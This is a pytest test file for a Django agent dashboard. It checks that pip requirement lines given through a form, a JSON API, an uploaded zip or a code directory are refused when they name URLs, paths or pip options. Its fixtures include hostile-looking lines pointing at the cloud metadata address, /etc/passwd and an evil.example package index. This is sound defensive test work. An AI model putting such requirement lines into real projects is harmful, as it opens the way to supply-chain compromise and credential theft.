"""pip requirements are refused when they are saved, wherever they come from: the agent form,
the canvas's JSON API, an uploaded zip's requirements.txt or a code directory's. Only names,
extras, versions and markers are kept; a URL, path or pip option never reaches the database."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from dashboard.projects import services as project_services
from dashboard.projects.models import Agent, Project
from tests.dashboard.test_agent_code import code_root as code_root
from tests.dashboard.test_agent_code import zip_bytes

pytestmark = pytest.mark.django_db

NEW = "/projects/acme/agents/new/"
FORM = {
    "name": "support",
    "model_id": "global.anthropic.claude-sonnet-4-6",
    "system_prompt": "Help.",
    "runtime": "python3.12",
    "architecture": "x86_64",
    "memory_mb": 1024,
    "timeout_s": 120,
}
APP = "def handler(event, context):\n    return {'statusCode': 200}\n"
REFUSED = {
    "x @ http://169.254.169.254/latest/meta-data/": "x is given by a URL",
    "x @ file:///etc/passwd": "x is given by a URL",
    "--index-url http://evil.example/simple": "the pip option --index-url is not allowed",
    "-e git+https://evil.example/x.git#egg=x": "the pip option -e is not allowed",
    "-r other.txt": "the pip option -r is not allowed",
    "./local/path": "this line is given by a local path",
}
ACCEPTED = ["strands-agents>=1.0", 'requests[socks]==2.32.0; python_version>="3.12"']
LEAKS = ("169.254", "/etc/passwd", "evil.example", "git+")


def errors(response: Any) -> list[str]:
    """The messages shown next to fields, as the user reads them."""
    found = re.findall(r'<ul class="errorlist">(.*?)</ul>', response.content.decode(), re.S)
    return [html.unescape(li) for block in found for li in re.findall(r"<li>(.*?)</li>", block)]


def _zip(files: dict[str, str]) -> SimpleUploadedFile:
    return SimpleUploadedFile("app.zip", zip_bytes(files), content_type="application/zip")


# --- the agent form ---------------------------------------------------------------------------
@pytest.mark.parametrize(("line", "reason"), REFUSED.items())
def test_the_agent_form_refuses_a_url_path_or_option_naming_the_line(
    acme: Project, alice: Any, client: Client, line: str, reason: str
) -> None:
    client.force_login(alice)

    # When a requirement pip must not see is typed below a good one
    response = client.post(NEW, {**FORM, "requirements": f"httpx==0.28.1\n{line}"})

    # Then the form says which line and why, without repeating the URL, and saves nothing
    assert response.status_code == 400
    (message,) = errors(response)
    assert message.startswith(f"line 2: {reason}")
    assert not any(leak in message for leak in LEAKS)
    assert not Agent.objects.exists()


def test_the_agent_form_keeps_names_extras_versions_and_markers(
    acme: Project, alice: Any, client: Client
) -> None:
    client.force_login(alice)
    typed = "# for the tools\n" + "\n".join(ACCEPTED) + "\n\n"

    response = client.post(NEW, {**FORM, "requirements": typed})

    assert response.status_code == 302, errors(response)
    assert Agent.objects.get().requirements == ACCEPTED


# --- the canvas's JSON API --------------------------------------------------------------------
def _canvas_edit(client: Client, project: Project, key: str, data: Any) -> Any:
    project.refresh_from_db()
    return client.post(
        reverse("canvas_node_update", args=[project.name, key]),
        json.dumps({"version": project.version, "data": data}),
        content_type="application/json",
    )


@pytest.mark.parametrize(("line", "reason"), REFUSED.items())
def test_the_canvas_refuses_a_url_path_or_option_and_stores_nothing(
    acme: Project, alice: Any, client: Client, line: str, reason: str
) -> None:
    # Given an agent on the canvas
    project_services.agent_create(project=acme, user=alice, data={"name": "support"})
    client.force_login(alice)

    # When an edit sends a requirement pip must not see
    response = _canvas_edit(client, acme, "agent:support", {"requirements": ["httpx", line]})

    # Then it is refused next to the requirements, and the agent keeps what it had
    assert response.status_code == 400
    body = response.json()
    assert body["field"] == "requirements" and body["error"].startswith(f"line 2: {reason}")
    assert not any(leak in body["error"] for leak in LEAKS)
    assert Agent.objects.get().requirements == []


def test_the_canvas_refuses_requirements_on_a_new_node_too(
    acme: Project, alice: Any, client: Client
) -> None:
    client.force_login(alice)

    response = client.post(
        reverse("canvas_node_add", args=["acme"]),
        json.dumps(
            {
                "version": acme.version,
                "kind": "agent",
                "data": {"name": "support", "requirements": ["--extra-index-url=http://x"]},
            }
        ),
        content_type="application/json",
    )

    assert response.status_code == 400
    assert "--extra-index-url is not allowed" in response.json()["error"]
    assert not Agent.objects.exists()


@pytest.mark.parametrize("shape", [{"pkg": "1.0"}, [1, 2], 42])
def test_the_canvas_refuses_requirements_that_are_not_lines_of_text(
    acme: Project, alice: Any, client: Client, shape: Any
) -> None:
    project_services.agent_create(project=acme, user=alice, data={"name": "support"})
    client.force_login(alice)

    response = _canvas_edit(client, acme, "agent:support", {"requirements": shape})

    assert response.status_code == 400
    assert response.json()["error"] == "requirements must be a list of pip requirements"
    assert Agent.objects.get().requirements == []


def test_the_canvas_keeps_names_extras_versions_and_markers(
    acme: Project, alice: Any, client: Client
) -> None:
    project_services.agent_create(project=acme, user=alice, data={"name": "support"})
    client.force_login(alice)

    response = _canvas_edit(client, acme, "agent:support", {"requirements": ACCEPTED})

    assert response.status_code == 200, response.content
    assert Agent.objects.get().requirements == ACCEPTED


# --- the team's own code ----------------------------------------------------------------------
@pytest.mark.parametrize(("line", "reason"), REFUSED.items())
def test_an_uploaded_zip_whose_requirements_txt_has_a_bad_line_is_refused_at_upload(
    acme: Project, alice: Any, client: Client, code_root: Path, line: str, reason: str
) -> None:
    client.force_login(alice)
    upload = _zip({"app.py": APP, "requirements.txt": f"# deps\nhttpx==0.28.1\n{line}\n"})

    response = client.post(
        NEW, {**FORM, "code_source": "zip", "code_handler": "app.handler", "code_zip": upload}
    )

    assert response.status_code == 400
    (message,) = errors(response)
    assert message.startswith(f"requirements.txt line 3: {reason}")
    assert not any(leak in message for leak in LEAKS)
    assert not Agent.objects.exists()
    assert not (code_root / "uploads").exists()  # a refused upload leaves nothing on disk


def test_an_uploaded_zip_with_plain_requirements_is_stored(
    acme: Project, alice: Any, client: Client, code_root: Path
) -> None:
    client.force_login(alice)
    upload = _zip({"app.py": APP, "requirements.txt": "\n".join(ACCEPTED) + "\n"})

    response = client.post(
        NEW, {**FORM, "code_source": "zip", "code_handler": "app.handler", "code_zip": upload}
    )

    assert response.status_code == 302, errors(response)
    assert Path(Agent.objects.get().code["path"]).is_file()


def test_a_code_directory_whose_requirements_txt_has_a_bad_line_is_refused_at_save(
    acme: Project, alice: Any, client: Client, code_root: Path
) -> None:
    client.force_login(alice)
    mine = code_root / "support"
    mine.mkdir()
    (mine / "app.py").write_text(APP)
    (mine / "requirements.txt").write_text("x @ http://169.254.169.254/\n")

    response = client.post(
        NEW,
        {**FORM, "code_source": "directory", "code_directory": str(mine),
         "code_handler": "app.handler"},
    )  # fmt: skip

    assert response.status_code == 400
    assert errors(response) == [
        "requirements.txt line 1: x is given by a URL: name a version on the package index instead."
    ]
